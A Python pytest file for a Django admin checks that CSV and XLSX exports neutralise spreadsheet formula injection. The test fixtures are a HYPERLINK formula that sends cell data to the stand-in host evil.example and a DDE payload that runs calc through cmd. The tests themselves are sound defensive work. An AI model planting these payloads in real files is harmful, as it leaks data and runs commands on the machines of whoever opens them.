"""CSV / formula injection: every export of the admin, in CSV and XLSX, quotes a cell that a spreadsheet would
run as a formula and writes XLSX text cells as strings (never formulas).

Hostile text reaches exports from applicants (company name, alliance account copied to the leader row at
publication) and from imported files. ``probation_report`` on stdout is the data contract: verbatim.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from reviews.models import SanctionRecord
from reviews.roles import CAMPAIGN_ADMIN
from tests.factories import ApplicationFactory
from tests.probation.factories import LeaderFactory
from tests.reviews.factories import (
    FinalReviewApplicationFactory,
    SanctionRecordFactory,
    ScoreSheetFactory,
    staff_with_role,
)
from tests.security.test_admin_matrix import export_form_data

COMPANY = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
ACCOUNT = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMATS = {"csv": "0", "xlsx": "1"}  # the admin export form's choices, in export_formats order


def read_rows(response, file_format):
    """The rows of the exported file: text for CSV; openpyxl cells for XLSX."""
    if file_format == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows()]


def cell_of(rows, header, row, file_format):
    """(value, XLSX data type or None) of the cell of ``row`` under ``header``."""
    headers = [c if file_format == "csv" else c.value for c in rows[0]]
    value = rows[row][headers.index(header)]
    return (value, None) if file_format == "csv" else (value.value, value.data_type)


def admin_export(client, url_name, file_format):
    form = client.get(reverse(f"admin:{url_name}")).context["form"]
    return client.post(reverse(f"admin:{url_name}"), {**export_form_data(form), "format": FORMATS[file_format]})


def safe(file_format, value):
    return ("'" + value, None if file_format == "csv" else "s")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_applications_export_quotes_a_hostile_company_name_and_account(admin_client, campaign, file_format):
    ApplicationFactory(campaign=campaign, company_name=COMPANY, alliance_account=ACCOUNT,
                       registered_capital=Decimal("500.00"))

    rows = read_rows(admin_export(admin_client, "applications_application_export", file_format), file_format)

    assert cell_of(rows, "公司名称", 1, file_format) == safe(file_format, COMPANY)
    assert cell_of(rows, "淘宝联盟账号", 1, file_format) == safe(file_format, ACCOUNT)
    # Numbers stay numbers in XLSX (the CSV text is unchanged).
    capital = cell_of(rows, "注册资本（万元）", 1, file_format)
    assert capital == (("500.00", None) if file_format == "csv" else (500, "n"))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_ranking_export_quotes_a_hostile_company_name_and_account(client, campaign, file_format):
    application = FinalReviewApplicationFactory(campaign=campaign, company_name=COMPANY, alliance_account=ACCOUNT)
    ScoreSheetFactory(application=application, weighted_score=Decimal("92.50"))
    client.force_login(staff_with_role(CAMPAIGN_ADMIN))

    response = client.get(reverse("admin:reviews_ranking_export"), {"format": file_format})

    rows = read_rows(response, file_format)
    assert cell_of(rows, "公司名称", 1, file_format) == safe(file_format, COMPANY)
    assert cell_of(rows, "淘宝联盟账号", 1, file_format) == safe(file_format, ACCOUNT)
    assert cell_of(rows, "排名", 1, file_format) == (("1", None) if file_format == "csv" else (1, "n"))
    assert cell_of(rows, "平均分", 1, file_format) == (("92.50", None) if file_format == "csv" else (92.5, "n"))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_probation_report_export_quotes_a_hostile_account_but_the_command_stays_verbatim(
    admin_client, campaign, file_format
):
    LeaderFactory(campaign=campaign, leader_account=ACCOUNT)
    out = io.StringIO()
    call_command("probation_report", "--campaign", campaign.slug, stdout=out)

    response = admin_client.get(reverse("admin:probation_board_report"), {"campaign": campaign.slug,
                                                                          "format": file_format})

    rows = read_rows(response, file_format)
    # The CSV keeps DATA.md's column names; the XLSX is headed in Chinese.
    account, total = {"csv": ("leader_account", "new_merchants_total"),
                      "xlsx": ("团长账号", "活动期内引入的新商家数")}[file_format]
    assert cell_of(rows, account, 1, file_format) == safe(file_format, ACCOUNT)
    assert cell_of(rows, total, 1, file_format) == (("0", None) if file_format == "csv" else (0, "n"))
    assert out.getvalue().splitlines()[1] == f"{ACCOUNT},probation,,,0,0,0,no"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_leaders_export_quotes_a_hostile_account_and_company_name(admin_client, campaign, file_format):
    LeaderFactory(campaign=campaign, leader_account=ACCOUNT, company_name=COMPANY)

    rows = read_rows(admin_export(admin_client, "probation_leader_export", file_format), file_format)

    assert cell_of(rows, "团长账号", 1, file_format) == safe(file_format, ACCOUNT)
    assert cell_of(rows, "公司名称", 1, file_format) == safe(file_format, COMPANY)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_sanction_list_export_quotes_a_hostile_account_company_and_note(admin_client, db, file_format):
    SanctionRecordFactory(alliance_account=ACCOUNT, company_name=COMPANY, note="-2+3")

    rows = read_rows(admin_export(admin_client, "reviews_sanctionrecord_export", file_format), file_format)

    assert cell_of(rows, "淘宝联盟账号", 1, file_format) == safe(file_format, ACCOUNT)
    assert cell_of(rows, "公司名称", 1, file_format) == safe(file_format, COMPANY)
    assert cell_of(rows, "说明", 1, file_format) == safe(file_format, "-2+3")


def test_an_exported_sanction_list_imports_back_unchanged(admin_client, db):
    SanctionRecordFactory(alliance_account="-mm_x", company_name=COMPANY, note="@note")
    exported = admin_export(admin_client, "reviews_sanctionrecord_export", "csv").content
    upload = SimpleUploadedFile("sanctions.csv", exported, content_type="text/csv")

    first = admin_client.post(reverse("admin:reviews_sanctionrecord_import"), {"import_file": upload, "format": "0"})
    admin_client.post(reverse("admin:reviews_sanctionrecord_process_import"), {**first.context["confirm_form"].initial})

    assert list(SanctionRecord.objects.values_list("alliance_account", "company_name", "note")) == [
        ("-mm_x", COMPANY, "@note"),
    ]
